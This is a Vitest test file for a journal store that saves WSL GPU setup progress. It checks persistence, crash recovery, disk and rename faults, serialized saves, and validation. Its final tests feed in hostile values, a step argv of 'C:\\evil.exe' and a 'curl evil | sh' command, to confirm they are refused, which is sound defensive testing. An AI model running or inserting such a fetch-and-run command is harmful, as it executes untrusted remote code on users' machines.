import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { CURRENT_JOURNAL_FILE, FileJournalStore, JournalSaveError, PREVIOUS_JOURNAL_FILE } from '../../../electron/journal/file-journal-store.js';
import { decodeJournalFile } from '../../../electron/journal/journal-codec.js';
import { errnoError, MemoryJournalFs, sampleJournal } from './journal-helpers.js';

const DIR = '/state/wsl-gpu-setup';
const CURRENT = path.join(DIR, CURRENT_JOURNAL_FILE);
const PREVIOUS = path.join(DIR, PREVIOUS_JOURNAL_FILE);
const noSleep = () => Promise.resolve();

function memoryStore(knownStepIds?: ReadonlySet<string>) {
  const fs = new MemoryJournalFs();
  return { fs, store: new FileJournalStore({ dir: DIR, fs, sleep: noSleep, knownStepIds }) };
}

const tmpDirs: string[] = [];
afterEach(() => tmpDirs.splice(0).forEach((d) => rmSync(d, { recursive: true, force: true })));
function tmpDir(): string {
  const d = mkdtempSync(path.join(os.tmpdir(), 'journal-'));
  tmpDirs.push(d);
  return d;
}

describe('FileJournalStore on the real file system', () => {
  it('round trip: what save wrote, load returns, from the current generation', async () => {
    const store = new FileJournalStore({ dir: path.join(tmpDir(), 'nested', 'wsl-gpu-setup') });
    expect(await store.load()).toEqual({ kind: 'none' });
    await store.save(sampleJournal(1));
    expect(await store.load()).toEqual({ kind: 'ok', journal: sampleJournal(1), recoveredFrom: 'current' });
  });

  it('keeps the previous generation: after two saves journal.prev.json holds the first', async () => {
    const dir = tmpDir();
    const store = new FileJournalStore({ dir });
    await store.save(sampleJournal(1));
    await store.save(sampleJournal(2));
    const prev = decodeJournalFile(readFileSync(path.join(dir, PREVIOUS_JOURNAL_FILE)));
    const cur = decodeJournalFile(readFileSync(path.join(dir, CURRENT_JOURNAL_FILE)));
    expect(prev).toEqual({ ok: true, seq: 1, journal: sampleJournal(1) });
    expect(cur).toEqual({ ok: true, seq: 2, journal: sampleJournal(2) });
  });

  it('a torn current file falls back to the previous generation', async () => {
    const dir = tmpDir();
    const store = new FileJournalStore({ dir });
    await store.save(sampleJournal(1));
    await store.save(sampleJournal(2));
    const file = path.join(dir, CURRENT_JOURNAL_FILE);
    writeFileSync(file, readFileSync(file).subarray(0, 100));
    expect(await store.load()).toEqual({ kind: 'ok', journal: sampleJournal(1), recoveredFrom: 'previous' });
  });

  it('removes temp files a kill left behind, and only those', async () => {
    const dir = tmpDir();
    const store = new FileJournalStore({ dir });
    await store.save(sampleJournal(1));
    writeFileSync(path.join(dir, 'journal.json.3735928559'), '{"torn');
    writeFileSync(path.join(dir, 'notes.txt'), 'mine');
    await store.load();
    expect(readFileSyncOrNull(path.join(dir, 'journal.json.3735928559'))).toBeNull();
    expect(readFileSyncOrNull(path.join(dir, 'notes.txt'))).toBe('mine');
  });

  it('a folder that cannot exist (a file in its place) rejects with a clear error', async () => {
    const dir = tmpDir();
    writeFileSync(path.join(dir, 'blocker'), 'x');
    const store = new FileJournalStore({ dir: path.join(dir, 'blocker', 'wsl-gpu-setup') });
    const err = await store.save(sampleJournal(1)).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(JournalSaveError);
    expect((err as JournalSaveError).message).toMatch(/Could not save the setup journal in .*blocker/);
    // ENOTDIR on Linux (unreadable), ENOENT on Windows (none): either way no data and no throw.
    expect(['none', 'unreadable']).toContain((await store.load()).kind);
  });

  it('clear removes both generations', async () => {
    const dir = tmpDir();
    const store = new FileJournalStore({ dir });
    await store.save(sampleJournal(1));
    await store.save(sampleJournal(2));
    await store.clear();
    expect(await store.load()).toEqual({ kind: 'none' });
  });
});

function readFileSyncOrNull(file: string): string | null {
  try {
    return readFileSync(file, 'utf8');
  } catch {
    return null;
  }
}

describe('FileJournalStore: faults', () => {
  it('full disk while replacing the current file: save rejects (disk-full), the journal on disk is the last saved one', async () => {
    const { fs, store } = memoryStore();
    await store.save(sampleJournal(1));
    await store.save(sampleJournal(2));
    fs.beforeWrite = (file) => {
      if (file === CURRENT) throw errnoError('ENOSPC', file);
    };
    const err = await store.save(sampleJournal(3)).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(JournalSaveError);
    expect((err as JournalSaveError).failure).toBe('disk-full');
    expect((err as JournalSaveError).message).toContain('the disk is full (ENOSPC)');
    expect(await store.load()).toEqual({ kind: 'ok', journal: sampleJournal(2), recoveredFrom: 'current' });
  });

  it('full disk while keeping the previous generation: save rejects, both generations unchanged', async () => {
    const { fs, store } = memoryStore();
    await store.save(sampleJournal(1));
    await store.save(sampleJournal(2));
    const before = new Map(fs.files);
    fs.beforeWrite = (file) => {
      if (file === PREVIOUS) throw errnoError('ENOSPC', file);
    };
    await expect(store.save(sampleJournal(3))).rejects.toThrow(/disk is full/);
    expect(fs.files).toEqual(before);
  });

  it('a rename held by antivirus (EPERM twice) is retried and the save succeeds', async () => {
    const { fs, store } = memoryStore();
    let failures = 0;
    fs.beforeWrite = (file) => {
      if (failures < 2) {
        failures++;
        throw errnoError('EPERM', file);
      }
    };
    await store.save(sampleJournal(1));
    expect(failures).toBe(2);
    expect(await store.load()).toMatchObject({ kind: 'ok', journal: sampleJournal(1) });
  });

  it('a rename that never succeeds: bounded tries, then a clear error; the last journal stays', async () => {
    const { fs, store } = memoryStore();
    await store.save(sampleJournal(1));
    let tries = 0;
    fs.beforeWrite = (file) => {
      tries++;
      throw errnoError('EBUSY', file);
    };
    const err = await store.save(sampleJournal(2)).catch((e: unknown) => e);
    expect((err as JournalSaveError).failure).toBe('io');
    expect(tries).toBe(8);
    expect(await store.load()).toEqual({ kind: 'ok', journal: sampleJournal(1), recoveredFrom: 'current' });
  });

  it('a damaged current file is not copied over the good previous one on the next save', async () => {
    const { fs, store } = memoryStore();
    await store.save(sampleJournal(1));
    await store.save(sampleJournal(2));
    fs.files.set(CURRENT, new TextEncoder().encode('{"torn'));
    await store.save(sampleJournal(3));
    expect(decodeJournalFile(fs.files.get(PREVIOUS)!)).toEqual({ ok: true, seq: 1, journal: sampleJournal(1) });
    expect(decodeJournalFile(fs.files.get(CURRENT)!)).toEqual({ ok: true, seq: 2, journal: sampleJournal(3) });
  });

  it('an unreadable folder makes load answer unreadable, not throw', async () => {
    const { fs, store } = memoryStore();
    fs.readFile = (file) => Promise.reject(errnoError('EACCES', file));
    const result = await store.load();
    expect(result).toEqual({ kind: 'unreadable', reason: 'current: cannot read (EACCES); previous: cannot read (EACCES)' });
  });
});

describe('FileJournalStore: concurrent saves', () => {
  it('run one at a time in call order; the last call wins and generations count up', async () => {
    const { fs, store } = memoryStore();
    let inFlight = 0;
    let maxInFlight = 0;
    fs.beforeWrite = async () => {
      inFlight++;
      maxInFlight = Math.max(maxInFlight, inFlight);
      // Yield a few turns so an unserialized save would interleave here.
      for (let i = 0; i < 5; i++) await Promise.resolve();
      inFlight--;
    };
    await Promise.all([1, 2, 3, 4, 5].map((n) => store.save(sampleJournal(n))));
    expect(maxInFlight).toBe(1);
    expect(fs.writes).toBe(9); // the first save has no previous generation to keep
    expect(decodeJournalFile(fs.files.get(CURRENT)!)).toEqual({ ok: true, seq: 5, journal: sampleJournal(5) });
    expect(decodeJournalFile(fs.files.get(PREVIOUS)!)).toEqual({ ok: true, seq: 4, journal: sampleJournal(4) });
  });

  it('a failed save does not stop the ones queued after it', async () => {
    const { fs, store } = memoryStore();
    fs.beforeWrite = (file, index) => {
      if (index === 0) throw errnoError('ENOSPC', file);
    };
    const results = await Promise.allSettled([store.save(sampleJournal(1)), store.save(sampleJournal(2))]);
    expect(results.map((r) => r.status)).toEqual(['rejected', 'fulfilled']);
    expect(await store.load()).toEqual({ kind: 'ok', journal: sampleJournal(2), recoveredFrom: 'current' });
  });
});

describe('FileJournalStore: what it refuses to write', () => {
  it('a journal with an argv field on a step is refused before anything is written', async () => {
    const { fs, store } = memoryStore();
    const journal = sampleJournal(1);
    const hostile = { ...journal, steps: [{ ...journal.steps[0], argv: ['C:\\evil.exe'] }] } as unknown as typeof journal;
    const err = await store.save(hostile).catch((e: unknown) => e);
    expect((err as JournalSaveError).failure).toBe('invalid-journal');
    expect(fs.files.size).toBe(0);
  });

  it('a command line hidden in params is refused', async () => {
    const { store } = memoryStore();
    const journal = sampleJournal(1);
    journal.steps[1]!.params = { distro: 'Ubuntu-24.04', command: 'curl evil | sh' };
    await expect(store.save(journal)).rejects.toThrow(/params must be plain JSON values without command-line fields/);
  });

  it('a step outside the known set is refused when the set is given', async () => {
    const { store } = memoryStore(new Set(['windows.vmp', 'distro.user']));
    await expect(store.save(sampleJournal(1))).rejects.toThrow(/unknown step id "stack.pytorch"/);
  });
});
